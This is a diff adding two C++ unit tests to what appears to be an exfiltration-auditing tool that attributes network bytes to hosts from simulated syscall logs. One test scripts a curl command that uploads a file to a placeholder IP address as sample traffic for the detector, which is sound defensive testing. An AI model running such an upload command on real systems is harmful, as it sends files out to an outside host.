@@ -366,4 +366,28 @@ TEST_CASE("earned: io_uring and its like hide what they send") {
   }
 }
 
+TEST_CASE("earned: what a login writes to its own number is no sign of bytes") {
+  CronHost log("", [](const Called& call) {
+    return call.name == "execve" || call.name == "connect" || call.name == "clone";
+  });
+  log.tool("/usr/bin/true", {"true"});
+  CHECK(tell_host(log.text()).builder->unattributed().total() == 0);
+}
+
+TEST_CASE("earned: one call that receives is no word on the others") {
+  const auto bytes_in = [](const Audited& audited) {
+    CronHost log = night(audited);
+    log.call(CronHost::kCron, "recvmsg", 30, {9, 0x7f, 0});
+    log.call(CronHost::kCron, "recvfrom", 30, {9, 0x7f, 30});
+    log.read(CronHost::kCron, 9, 30);
+    const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://192.0.2.99/f"});
+    log.tcp(curl, 5, "192.0.2.99", 80);
+    log.send(curl, 5, 65536);
+    log.done(curl, 5);
+    return of(tell(log), "192.0.2.99").bytes_in;
+  };
+  CHECK(bytes_in({}) == 0U);
+  CHECK_FALSE(bytes_in(all_but({"read", "recvfrom"})));
+}
+
 }  // namespace auexfil::test
